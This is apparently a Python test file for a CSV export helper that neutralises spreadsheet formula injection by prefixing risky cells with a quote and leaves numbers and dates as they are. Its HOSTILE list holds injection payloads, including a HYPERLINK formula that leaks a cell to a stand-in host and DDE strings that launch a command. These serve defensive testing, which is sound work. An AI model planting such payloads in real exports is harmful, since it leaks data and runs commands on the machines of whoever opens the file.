"""Text that a spreadsheet would run as a formula is defused; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from plazo.core.export.safe_csv import SafeCsvWriter, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(name: str) -> None:
    assert safe_cell(name) == "'" + name


@pytest.mark.parametrize("name", ["Estudio Lumbre", "Año 2026 = bueno", "a-b", " =x", "'quoted"])
def test_ordinary_text_is_written_as_typed(name: str) -> None:
    assert safe_cell(name) == name


@pytest.mark.parametrize("number", [-5, Decimal("-1200.00"), -0.5, 0, 42])
def test_numbers_stay_numbers_even_when_negative(number: int | float | Decimal) -> None:
    assert safe_cell(number) == number


def test_missing_values_and_dates_have_one_spelling() -> None:
    moment = datetime(2026, 12, 6, 5, 30, 12, 999, tzinfo=UTC)
    assert [safe_cell(None), safe_cell(date(2026, 1, 2)), safe_cell(moment)] == [
        "",
        "2026-01-02",
        "2026-12-06T05:30:12+00:00",
    ]


def test_the_writer_defuses_every_cell_and_round_trips_through_a_reader() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["name", "amount"])
    writer.writerows([[name, Decimal("-10.50")] for name in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["name", "amount"]
    assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-10.50"}
